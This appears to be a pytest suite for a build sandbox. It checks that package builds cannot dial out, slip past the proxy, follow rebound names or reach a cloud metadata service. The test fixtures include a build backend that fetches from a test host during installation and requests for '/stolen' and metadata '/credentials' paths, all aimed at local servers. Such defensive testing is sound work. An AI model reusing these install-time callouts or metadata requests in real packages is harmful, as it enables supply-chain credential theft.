"""What a build reaches: its indexes and what its requirements name, through a forwarder, and nothing else.
The packages here bring their build backend along, so a build needs the network only for what it tries."""

import base64
import functools
import http.server
import json
import os
import select
import socket
import subprocess
import threading
import urllib.parse

import pytest

from conftest import SYSTEM_PYTHON
from daemon_support import daemon, stopped_daemon  # fixtures
from test_index import Index

BACKEND = '''
import os, socket, urllib.request, zipfile
def dial():
    return TRIAL
def build_wheel(folder, config_settings=None, metadata_directory=None):
    said = dial()
    info = 'pkg-1.0.dist-info'
    with zipfile.ZipFile(os.path.join(folder, 'pkg-1.0-py3-none-any.whl'), 'w') as wheel:
        wheel.writestr('pkg.py', 'SAID = %r\\n' % (said,))
        wheel.writestr(info + '/METADATA', 'Metadata-Version: 2.1\\nName: pkg\\nVersion: 1.0\\n')
        wheel.writestr(info + '/WHEEL', 'Wheel-Version: 1.0\\nGenerator: x\\nRoot-Is-Purelib: true\\nTag: py3-none-any\\n')
        wheel.writestr(info + '/RECORD', '')
    return 'pkg-1.0-py3-none-any.whl'
'''
PROJECT = '''[build-system]
requires = []
build-backend = "backend"
backend-path = ["."]
[project]
name = "pkg"
version = "1.0"
'''
SHOW = 'import pkg; print(pkg.SAID)'


def make_package(rt, trial, project=PROJECT):
    return rt.make_files('home/pkg', {'pyproject.toml': project, 'backend.py': BACKEND.replace('TRIAL', trial)})


class Host:
    """An HTTP server of the host's; `asked` is what it was asked for."""

    def __init__(self, address='127.0.0.1', redirect=None):
        self.asked, host = [], self

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):
                host.asked.append(self.path)
                self.send_response(302 if redirect else 200)
                if redirect:
                    self.send_header('Location', redirect + self.path)
                self.end_headers()
                self.wfile.write(b'hello')

            do_HEAD = do_GET

            def log_message(self, *args):
                pass

        class Server(http.server.ThreadingHTTPServer):
            address_family = socket.AF_INET6 if ':' in address else socket.AF_INET

        self.server = Server((address, 0), Handler)
        self.port = self.server.server_port
        self.place = f'[{address}]:{self.port}' if ':' in address else f'{address}:{self.port}'
        self.url = f'http://{self.place}/'
        threading.Thread(target=self.server.serve_forever, daemon=True).start()


@pytest.fixture
def host():
    made = Host()
    yield made
    made.server.shutdown()


@pytest.fixture
def index(tmp_path):
    folder = tmp_path / 'wheels'
    folder.mkdir()
    made = Index(folder)
    yield made
    made.server.shutdown()


def build(rt, base, *words, **more):
    return rt.run(*words, '--pip', './pkg', '--', base / 'bin/python', '-c', SHOW, **more)


def get(url):
    return f'urllib.request.urlopen({url!r}, timeout=60).read()'


# Attacks: H7
def test_a_build_that_dials_out_gets_nowhere_and_is_named(rt, empty_base, host):
    trial = get(host.url + 'stolen')
    make_package(rt, trial)
    error = rt.fails('--pip', './pkg', '--', 'true')
    assert host.asked == [] and host.place in error and 'Python-urllib' in error
    # The control: with the host's network the same reaches it.
    rt.ok('--', SYSTEM_PYTHON, '-c', 'import urllib.request; ' + trial)
    assert host.asked == ['/stolen']


def test_a_build_that_passes_the_proxy_by_gets_nowhere(rt, empty_base, host):
    trial = f'socket.create_connection(("127.0.0.1", {host.port}), timeout=20).recv(1)'
    opener = f'urllib.request.build_opener(urllib.request.ProxyHandler({{}})).open({host.url!r})'
    for attempt in (trial, opener, "socket.getaddrinfo('files.invalid', 443)",
                    "socket.create_connection(('192.0.2.1', 443), timeout=20)"):
        make_package(rt, attempt)
        error = rt.fails('--pip', './pkg', '--', 'true')
        assert host.asked == []
    assert 'no network of its own' in error
    rt.ok('--', SYSTEM_PYTHON, '-c', 'import urllib.request; ' + opener)
    assert host.asked == ['/']


def test_a_build_that_can_do_without_is_told_of(rt_one, empty_base, host):
    make_package(rt_one, f'[{get(host.url)} for _ in ()] or __import__("contextlib").suppress(Exception).__enter__()')
    make_package(rt_one, f'(lambda: None)() or (exec("try: {get(host.url)}\\nexcept OSError: pass"), "went on")[1]')
    done = build(rt_one, empty_base)
    assert done.returncode == 0 and done.stdout == 'went on\n', done.stderr
    assert host.asked == [] and f'kept from its build: {host.place}' in done.stderr


def test_what_is_named_is_reached(rt, empty_base, host):
    make_package(rt, get(host.url + 'data'))
    done = build(rt, empty_base, '--pip', f'--find-links {host.url}links/')
    assert done.stdout == "b'hello'\n", done.stderr
    assert '/data' in host.asked
    project = PROJECT + f'dependencies = []\n[tool.x]\nurl = "{host.url}"\n'
    make_package(rt, get(host.url + 'from-the-project'), project)
    assert build(rt, empty_base).stdout == "b'hello'\n"


FORCED = {'uv_pip_install_options': ['--reinstall-package', 'nothing']}


def install_forced(rt, base, index_url, name, **more):
    """By a build sandbox, though there are wheels."""
    env = {'uv': {'packages': [name], **FORCED}}
    return rt.run('--runtime-env', json.dumps(env), '--', base / 'bin/python', '-c',
                  f'import {name}; print({name}.VERSION)', env={'UV_DEFAULT_INDEX': index_url, **more.pop('env', {})}, **more)


def test_files_may_lie_where_the_index_says(rt, empty_base, index):
    index.add('first', '1.0', requires=['second'])
    index.add('second', '2.0')
    files = Index(index.folder)          # another port, so another place
    files.files = index.files
    answer = index.answer

    def elsewhere(path):
        kind, body = answer(path)
        return kind, body and body.replace(b'"/files/', f'"http://127.0.0.1:{files.server.server_port}/files/'.encode())
    index.answer = elsewhere
    done = install_forced(rt, empty_base, index.url.replace('://', '://user:canary-77@'), 'first')
    assert done.stdout == '1.0\n', done.stderr
    assert {path.rsplit('/', 1)[-1] for path in files.wheels()} == {'first-1.0-py3-none-any.whl',
                                                                   'second-2.0-py3-none-any.whl'}
    assert not index.wheels() and 'canary' not in done.stderr


def test_files_may_lie_where_they_are_redirected_to(rt_one, empty_base, index):
    index.add('first', '1.0')
    store = Host()
    moved = Host(redirect=index.url.removesuffix('/simple'))
    answer = index.answer

    def elsewhere(path):
        kind, body = answer(path)
        return kind, body and body.replace(b'"/files/', f'"{moved.url}files/'.encode())
    front = Index(index.folder)
    front.files, front.answer = index.files, elsewhere
    done = install_forced(rt_one, empty_base, front.url, 'first')
    assert done.stdout == '1.0\n', done.stderr
    assert moved.asked and index.wheels() and not store.asked


class Proxy:
    """The caller's own: asks for user:secret, and takes every name for the host `address`:`target`."""

    def __init__(self, target, address='127.0.0.1'):
        self.asked, self.target, self.address = [], target, address
        self.listener = socket.create_server(('127.0.0.1', 0))
        self.url = f'http://user:secret-5@127.0.0.1:{self.listener.getsockname()[1]}'
        threading.Thread(target=self.serve, daemon=True).start()

    def serve(self):
        while True:
            guest, _ = self.listener.accept()
            threading.Thread(target=self.talk, args=[guest], daemon=True).start()

    def talk(self, guest):
        head = b''
        while b'\r\n\r\n' not in head:
            if not (more := guest.recv(65536)):
                return
            head += more
        line = head.split(b'\r\n')[0].decode()
        wanted = b'Basic ' + base64.b64encode(b'user:secret-5')
        if wanted not in head:
            guest.sendall(b'HTTP/1.1 407 No\r\nProxy-Authenticate: Basic realm=x\r\nContent-Length: 0\r\n\r\n')
            return guest.close()
        self.asked.append(line)
        onward = socket.create_connection((self.address, self.target))
        if line.startswith('CONNECT'):
            guest.sendall(b'HTTP/1.1 200 Yes\r\n\r\n')
        else:
            method, url, version = line.split()
            parts = urllib.parse.urlsplit(url)
            onward.sendall(head.replace(line.encode(), f'{method} {parts.path} {version}'.encode(), 1))
        while True:
            ready, _, _ = select.select([guest, onward], [], [], 30)
            for one, other in ((guest, onward), (onward, guest)):
                if one in ready:
                    if not (data := one.recv(65536)):
                        return guest.close(), onward.close()
                    other.sendall(data)


def test_the_callers_own_proxy_is_gone_through(rt, empty_base, index):
    index.add('first', '1.0')
    proxy = Proxy(index.server.server_port)
    done = install_forced(rt, empty_base, 'http://index.invalid/simple', 'first',
                          env={'HTTP_PROXY': proxy.url, 'http_proxy': proxy.url, 'NO_PROXY': '', 'no_proxy': ''})
    assert done.stdout == '1.0\n', done.stderr
    assert any('http://index.invalid/files/first-1.0' in line for line in proxy.asked)
    assert 'secret-5' not in done.stderr
    make_package(rt, get('http://other.invalid/'))
    proxy.asked.clear()
    done = build(rt, empty_base, env={'HTTP_PROXY': proxy.url, 'http_proxy': proxy.url, 'NO_PROXY': '', 'no_proxy': ''})
    assert 'other.invalid:80' in done.stderr and not proxy.asked


def test_a_repository_that_a_requirement_names_is_reached(rt, empty_base, host, tmp_path):
    package = make_package(rt, '"cloned"')
    git = ['git', '-c', 'user.name=x', '-c', 'user.email=x@x', '-c', f'safe.directory={package}']
    for words in (['init', '-q', '-b', 'main', '.'], ['add', '.'], ['commit', '-qm', 'x'],
                  ['clone', '-q', '--bare', '.', tmp_path / 'pkg.git']):
        subprocess.run([*git, *words], cwd=package, check=True)
    subprocess.run(['git', 'update-server-info'], cwd=tmp_path / 'pkg.git', check=True)
    handler = functools.partial(http.server.SimpleHTTPRequestHandler, directory=tmp_path)
    with http.server.ThreadingHTTPServer(('127.0.0.1', 0), handler) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        out = rt.ok('--pip', f'pkg @ git+http://127.0.0.1:{server.server_port}/pkg.git@main', '--',
                    empty_base / 'bin/python', '-c', SHOW)
        server.shutdown()
    assert out == 'cloned\n'


def test_an_index_that_is_not_there_is_said_as_such(rt, empty_base):
    done = install_forced(rt, empty_base, 'http://127.0.0.1:9/simple', 'first')
    assert done.returncode == 125 and '127.0.0.1:9' in done.stderr and 'can\'t be reached' in done.stderr, done.stderr


METADATA = '169.254.169.254'


@pytest.fixture
def metadata_host(programs, tmp_path):
    """A network of its own in which a cloud's metadata service answers; this process is in it meanwhile."""
    if os.geteuid() != 0:
        pytest.skip('needs root to make a network')
    own = os.open('/proc/self/ns/net', os.O_RDONLY | os.O_CLOEXEC)
    libc = __import__('ctypes').CDLL(None, use_errno=True)
    assert libc.unshare(0x40000000) == 0
    try:
        subprocess.run('ip link set lo up && ip addr add 169.254.169.254/32 dev lo && ip -6 addr add fd00:ec2::254/128 dev lo nodad',
                       shell=True, check=True)
        yield {address: Host(address) for address in (METADATA, 'fd00:ec2::254')}
    finally:
        assert libc.setns(own, 0x40000000) == 0
        os.close(own)


# Attacks: H7
def test_metadata_of_a_cloud_is_never_reached(rt, empty_base, metadata_host, tmp_path):
    for address, server in metadata_host.items():
        trial = get(server.url + 'credentials')
        rt.ok('--', SYSTEM_PYTHON, '-c', 'import urllib.request; ' + trial)  # the control
        assert server.asked == ['/credentials']
        server.asked.clear()
        make_package(rt, trial)
        done = build(rt, empty_base, '--pip', f'--find-links {server.url}', env={'UV_OFFLINE': '1'})
        assert done.returncode == 125 and server.place in done.stderr, done.stderr
        assert '/credentials' not in server.asked


def test_a_name_that_leads_to_metadata_is_not_followed(rt_one, empty_base, metadata_host, tmp_path):
    """By the host's own /etc/hosts, in a mount namespace of the launcher's own: as a rebound name would."""
    hosts = tmp_path / 'hosts'
    hosts.write_text(f'{METADATA} innocent.example\n')
    server = metadata_host[METADATA]
    url = f'http://innocent.example:{server.port}/credentials'
    make_package(rt_one, get(url))
    script = f'mount --bind {hosts} /etc/hosts && exec "$@"'
    base = [SYSTEM_PYTHON, '-c']
    words = ['unshare', '-m', 'sh', '-c', script, 'sh']
    control = subprocess.run([*words, *rt_one.command('--', *base, 'import urllib.request; ' + get(url))],
                             env=rt_one.env, capture_output=True, text=True)
    assert control.returncode == 0 and server.asked == ['/credentials'], control.stderr
    server.asked.clear()
    done = subprocess.run([*words, *rt_one.command('--pip', f'--find-links http://innocent.example:{server.port}/none/',
                                                   '--pip', './pkg', '--', empty_base / 'bin/python', '-c', SHOW)],
                          env={**rt_one.env, 'UV_OFFLINE': '1'}, cwd=rt_one.home, capture_output=True, text=True)
    assert done.returncode == 125 and 'innocent.example' in done.stderr, done.stderr
    assert '/credentials' not in server.asked


# Attacks: H7
def test_nor_by_our_own_downloads_and_the_planner(rt, empty_base, metadata_host):
    near = Host()
    for server in metadata_host.values():
        moved = Host(redirect=server.url.rstrip('/'))
        for host in (server, moved):
            error = rt.fails('--working-dir', host.url + 'x.zip', '--', 'true')
            assert 'x.zip' in error and ('metadata' in error) and server.asked == [], error
        assert moved.asked, 'the redirect was looked at'
        error = rt.fails('--pip', f'--index-url {server.url}simple', '--pip', 'first', '--python', empty_base / 'bin/python',
                         '--', 'true')
        assert server.asked == [] and server.place in error, error
    rt.fails('--working-dir', near.url + 'x.zip', '--', 'true')
    rt.fails('--pip', f'--index-url {near.url}simple', '--pip', 'first', '--python', empty_base / 'bin/python', '--', 'true')
    assert '/x.zip' in near.asked and any('first' in path for path in near.asked), 'the control run: another host is asked'


# Attacks: H7; control: test_a_build_that_dials_out_gets_nowhere_and_is_named
def test_another_users_build_through_the_daemon_is_shut_in_too(daemon, empty_base, host):
    rt = daemon.launcher(12345)
    make_package(rt, get(host.url + 'stolen'))
    error = rt.fails('--pip', './pkg', '--', 'true')
    assert host.asked == [] and host.place in error
    make_package(rt, get(host.url + 'data'))
    done = build(rt, empty_base, '--pip', f'--find-links {host.url}')
    assert done.stdout == "b'hello'\n", done.stderr


def test_nothing_is_left_of_a_forwarder(rt, empty_base, host):
    make_package(rt, get(host.url))
    rt.fails('--pip', './pkg', '--', 'true')
    lines = subprocess.run(['ps', '-eo', 'stat,args'], capture_output=True, text=True).stdout.splitlines()
    assert not [line for line in lines if 'rtlaunch-build' in line and not line.startswith('Z')]
